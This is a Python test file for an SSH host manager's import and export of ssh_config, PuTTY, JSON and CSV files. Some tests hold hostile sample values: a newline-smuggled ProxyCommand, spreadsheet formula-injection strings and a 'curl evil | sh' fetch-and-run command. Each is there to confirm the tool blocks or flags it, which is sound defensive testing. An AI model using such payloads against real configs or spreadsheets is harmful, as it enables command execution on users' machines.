"""Exported hosts, read back by the programs they are for."""

from __future__ import annotations

import csv
import io
import json
import os
import pwd
import subprocess
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from sshtui.cli.run import run
from sshtui.model.hosts import Forward, Host
from sshtui.model.settings import Settings
from sshtui.model.terminal_switches import TerminalSwitches
from sshtui.store.exporters import in_the_way, to_csv, to_json, to_putty, to_ssh_config, write_export
from sshtui.store.host_tables import from_table
from sshtui.store.hosts import HostStore
from sshtui.store.importers.plan import FORMATS, plan, to_save
from sshtui.store.lookup import Lookup
from sshtui.store.ssh_config import ConfigHosts
from sshtui.store.ssh_config_effective import ORDER, ssh_lines
from sshtui.store.ssh_config_options import FIELDS, FIELDS_IN_FILE
from tests.servers.openssh import OpenSSH

HOSTS = (
    Host("plain", "10.0.0.5"),
    Host(
        "front door", "web.example.org", 2222, "root", "prod/web", "~/keys/my key", "plain,me@gate:2200",
        ("eu", "blue"), "=cmd()", "echo 'a  b' # 100%", 30, "", "",
        (
            Forward("local", "127.0.0.1:8080", "localhost:80"), Forward("remote", "9000", "localhost:22"),
            Forward("dynamic", "1080"),
        ),
    ),
    Host("six", "fe80::1", user="me@corp"),
)  # fmt: skip


def test_ssh_goes_where_sshtui_goes(tmp_path: Path, need: Callable[[str], str]) -> None:
    path = tmp_path / "config"
    path.write_text(to_ssh_config(HOSTS))

    def told(name: str) -> set[str]:
        command = [need("ssh"), "-G", "-F", str(path), "--", name]
        done = subprocess.run(command, capture_output=True, text=True, stdin=subprocess.DEVNULL)
        assert done.returncode == 0, done.stderr
        return set(done.stdout.splitlines())

    assert {"hostname 10.0.0.5", "port 22"} <= told("plain")
    assert {"hostname fe80::1", "user me@corp"} <= told("six")
    assert told("front-door") >= {
        "hostname web.example.org",
        "port 2222",
        "user root",
        "identityfile ~/keys/my key",
        "proxyjump plain,me@gate:2200",
        "serveraliveinterval 30",
        "remotecommand echo 'a  b' # 100%",
        "requesttty true",
        "localforward [127.0.0.1]:8080 [localhost]:80",
        "remoteforward 9000 [localhost]:22",
        "dynamicforward 1080",
    }


FURTHER = {
    "proxy_command": "nc -x proxy %h %p",
    "certificate_files": ["~/c/100%-cert.pub", "/c/with space-cert.pub"],
    "identity_files": ["~/k/one", "~/k/two"],
    "identities_only": True,
    "identity_agent": "~/agent sock",
    "agent_forwarding": True,
    "host_key_alias": "cluster",
    "known_hosts_files": ["/k/h", "/k/with space"],
    "global_known_hosts_files": ["/g/h", "/g/with space"],
    "strict_host_key_checking": "accept-new",
    "add_keys_to_agent": "confirm 300",
    "address_family": "inet6",
    "bind_address": "127.0.0.2",
    "ciphers": "aes256-ctr",
    "kex_algorithms": "curve25519-sha256",
    "macs": "hmac-sha2-256",
    "host_key_algorithms": "ssh-ed25519",
    "pubkey_accepted_algorithms": "+ssh-rsa",
    "compression": True,
    "keep_alive_misses": 5,
    "connect_timeout": 7,
    "send_environment": ["LC_*", "TZ"],
    "set_environment": {"A": "1", "B": "two words"},
    "proxy": "socks5://never:1",
    "gssapi_authentication": True,
    "hash_known_hosts": True,
    "hostbased_authentication": False,
    "verify_host_key_dns": "ask",
    "update_host_keys": "ask",
    "revoked_host_keys": "/k/revoked",
    "pkcs11_provider": "/lib/token.so",
    "login_methods": ["publickey", "password"],
    "unheard_of": "Port 1",
}


def test_what_stands_in_further_fields_and_folders_goes_along(
    tmp_path: Path, need: Callable[[str], str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SSHTUI_CONFIG_DIR", str(tmp_path))
    store, out = HostStore(tmp_path / "hosts.toml"), tmp_path / "out"
    evil = {
        "host_key_alias": "x\nProxyCommand evil",
        "proxy_command": ["x"],
        "ciphers": 0,
        "macs": "hmac-nonsense",
        "kex_algorithms": "-*",
        "host_key_algorithms": "+ssh-rsa,nonsense",
        "address_family": "inet7",
        "strict_host_key_checking": "maybe",
        "connect_timeout": "soon",
    }
    store.put_all([Host("box", "h", folder="prod", key_pair="~/k/one", extra=FURTHER), Host("bad", "h", extra=evil)])
    store.put_folder("prod", {"user": "deploy", "port": 2222})
    assert run(["export", "ssh_config", "--out", str(out)]) == 0

    def told(name: str) -> set[str]:
        command = [need("ssh"), "-G", "-F", str(out), "--", name]
        return set(subprocess.run(command, capture_output=True, text=True, check=True).stdout.splitlines())

    home = pwd.getpwuid(os.getuid()).pw_dir
    assert told("box") >= {
        "user deploy", "port 2222", "proxycommand nc -x proxy %h %p", "certificatefile ~/c/100%%-cert.pub",
        "certificatefile /c/with space-cert.pub", "identityfile ~/k/one", "identityfile ~/k/two",
        "identitiesonly yes", f"identityagent {home}/agent sock",
        "forwardagent yes", "hostkeyalias cluster", "userknownhostsfile /k/h /k/with space",
        "globalknownhostsfile /g/h /g/with space",
        "stricthostkeychecking accept-new", "addkeystoagent confirm 300", "addressfamily inet6",
        "bindaddress 127.0.0.2", "ciphers aes256-ctr", "kexalgorithms curve25519-sha256", "macs hmac-sha2-256",
        "hostkeyalgorithms ssh-ed25519", "connecttimeout 7", "compression yes", "serveralivecountmax 5",
        "sendenv LC_*", "sendenv TZ", "setenv A=1",
        "setenv B=two words", "gssapiauthentication yes", "hashknownhosts yes", "hostbasedauthentication no",
        "verifyhostkeydns ask", "updatehostkeys ask", "revokedhostkeys /k/revoked", "pkcs11provider /lib/token.so",
        "preferredauthentications publickey,password",
    }  # fmt: skip
    assert "proxycommand" not in " ".join(told("bad"))
    assert "# proxy of sshtui has no keyword" in out.read_text()
    assert run(["export", "putty", "--out", str(tmp_path / "reg")]) == 0
    assert '"UserName"="deploy"' in (tmp_path / "reg").read_text()


def test_what_is_in_force_for_a_saved_host_is_what_ssh_says_of_its_export(
    tmp_path: Path, need: Callable[[str], str]
) -> None:
    store, out, home = HostStore(tmp_path / "hosts.toml"), tmp_path / "out", Path(pwd.getpwuid(os.getuid()).pw_dir)
    further = {**FURTHER, "ciphers": "-*gcm*,*ctr", "macs": "^hmac-md5", "proxy_command": ""}
    boxes = [
        Host("box", "BOX.example", folder="prod/web", key_pair="~/k/one", jump="none", keep_alive=7, extra=further),
        Host("out", "h", user="me", folder="prod", extra={"resume": "tmux", **FURTHER, "connect_timeout": 9}),
    ]
    store.put_all([*HOSTS, *boxes])
    store.put_folder("prod", {"user": "deploy", "port": 2222, "jump": "plain"})
    write_export("ssh_config", store.hosts(), out, store.effective)
    for host in store.hosts():
        found = Lookup(store, ConfigHosts).why(host.name, Settings(keep_alive=0), home)
        ours = [f"{keyword} {value}" for keyword, value in ssh_lines(found.rows)]
        command = [need("ssh"), "-G", "-F", str(out), "--", host.name.replace(" ", "-")]
        told = subprocess.run(command, capture_output=True, text=True, check=True).stdout.splitlines()
        theirs = [line for line in told if line.split(" ", 1)[0].lower() in ORDER]
        if "connect_timeout" not in host.extra:
            # What settings.toml says for all hosts is not exported.
            theirs[theirs.index("connecttimeout none")] = "connecttimeout 15"
        assert ours == theirs, host.name


def test_every_followed_keyword_that_has_a_field_goes_along() -> None:
    assert {field for field, _ in FIELDS.values() if field} <= FIELDS_IN_FILE.keys()


def test_putty_sessions_come_back_whole(tmp_path: Path) -> None:
    path = tmp_path / "sessions.reg"
    proxied = Host("proxied", "h", extra={"proxy": "socks5://proxy:9999"})
    behind = Host("behind", "h", jump="nowhere,six")
    path.write_bytes(to_putty((*HOSTS, proxied, behind)).encode())
    back = FORMATS["putty"](path).hosts
    assert [(host.name, host.destination, host.command, host.keep_alive, host.forwards) for host in back] == [
        (host.name, host.destination, host.command, host.keep_alive, host.forwards)
        for host in (*HOSTS, proxied, behind)
    ]
    assert [host.jump for host in back] == ["", "me@gate:2200", "", "", "me@corp@fe80::1"]
    assert [dict(host.extra) for host in back[3:]] == [{"proxy": "socks5://proxy:9999"}, {}]


def test_plink_goes_where_an_exported_session_says(
    sshd: OpenSSH, tmp_path: Path, surroundings: Path, need: Callable[[str], str]
) -> None:
    """PuTTY on Unix keeps a file for each session; plink says where it goes before it refuses the unknown host key."""
    sessions = surroundings / ".putty" / "sessions"
    sessions.mkdir(parents=True)
    hosts = (Host("my café~1", sshd.address, sshd.port, "ada", command="echo 'a  b'"), HOSTS[1])
    assert in_the_way("putty", hosts, sessions) == ""
    write_export("putty", hosts, sessions, lambda host: host)
    assert in_the_way("putty", hosts, sessions) == f"2 of the sessions are in {sessions} already."
    plink = [need("plink"), "-v", "-batch", "-load", hosts[0].name]
    told = subprocess.run(plink, capture_output=True, text=True, timeout=30).stderr
    assert f"Connecting to {sshd.address} port {sshd.port}" in told
    assert sshd.host_keys[0].sha256 in told or "host key is not cached" in told
    back = FORMATS["putty"](sessions).hosts
    assert [(host.name, host.destination, host.command, host.forwards) for host in back] == [
        (host.name, host.destination, host.command, host.forwards) for host in sorted(hosts, key=lambda host: host.name)
    ]


def test_a_missing_directory_of_putty_sessions_is_made(tmp_path: Path) -> None:
    sessions = tmp_path / ".putty" / "sessions"
    sessions.parent.mkdir()
    assert in_the_way("putty", HOSTS, sessions) == ""
    assert write_export("putty", HOSTS, sessions, lambda host: host) == f"3 sessions written to {sessions}."
    assert {path.name for path in sessions.iterdir()} == {"plain", "front%20door", "six"}
    assert sessions.stat().st_mode & 0o777 == 0o700


def test_json_comes_back_whole_without_secrets(tmp_path: Path) -> None:
    path = tmp_path / "table"
    secrets = {"password": "keyring:1", "proxy_command": "nc %h %p", "danger": True}
    hosts = (*HOSTS, Host("last", "h", favourite=True, terminal=TerminalSwitches(backspace="bs"), extra=secrets))
    path.write_text(to_json(hosts))
    kept = {name: value for name, value in secrets.items() if name != "password"}
    assert to_save(plan(FORMATS["json"](path), ())) == (*HOSTS, replace(hosts[-1], extra=kept))


def test_a_table_comes_back_whole_but_for_its_forwards(tmp_path: Path) -> None:
    path = tmp_path / "table"
    hosts = (*HOSTS, Host("last", "h", keep_alive=0, theme="nord", colour="red", favourite=True))
    path.write_text(to_csv(hosts))
    assert to_save(plan(FORMATS["csv"](path), ())) == tuple(replace(host, forwards=()) for host in hosts)


def test_json_holds_every_field() -> None:
    assert tuple(from_table(table) for table in json.loads(to_json(HOSTS))) == HOSTS


def test_no_cell_of_the_table_is_a_formula() -> None:
    notes = [f"{start}cmd|' /C calc'!A0" for start in ("=", "+", "-", "@", "\t=", "\r=", "\n=")]
    table = io.StringIO(to_csv(Host(f"host{number}", "h", notes=note) for number, note in enumerate(notes)), newline="")
    rows = list(csv.DictReader(table))
    assert [row["name"] for row in rows] == [f"host{number}" for number in range(len(notes))]
    assert all(row["notes"].startswith("'") for row in rows)


def test_importing_asks_first_and_export_never_replaces_unasked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("SSHTUI_CONFIG_DIR", str(tmp_path))
    source, store = tmp_path / "hosts.list", tmp_path / "hosts.toml"
    source.write_text("root@10.0.0.5:2222\n")
    assert run(["import", "list", str(source)]) == 2
    assert run(["import", "list", str(source), "--dry-run"]) == 0
    assert not store.exists()
    assert run(["import", "list", str(source), "--folder", "office", "--yes"]) == 0
    assert HostStore(store).hosts() == (Host("10.0.0.5", "10.0.0.5", 2222, "root", "office"),)
    assert "new       10.0.0.5  root@10.0.0.5:2222" in capsys.readouterr().out
    assert run(["import", "list", str(source), "--folder", "office"]) == 0
    assert run(["export", "ssh_config", "--out", str(tmp_path / "out")]) == 0
    assert run(["export", "json", "--out", str(tmp_path / "out")]) == 2
    assert (tmp_path / "out").read_text().startswith("Host 10.0.0.5\n")
    assert "Include" in capsys.readouterr().err


def test_what_an_import_would_run_here_is_shown_before_anybody_agrees(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("SSHTUI_CONFIG_DIR", str(tmp_path))
    source = tmp_path / "hosts.json"
    source.write_text(to_json([Host("a", "h", extra={"proxy_command": "curl evil | sh", "pkcs11_provider": "/x.so"})]))
    assert run(["import", "json", str(source), "--dry-run"]) == 0
    assert "runs on this computer: curl evil | sh, /x.so" in capsys.readouterr().out
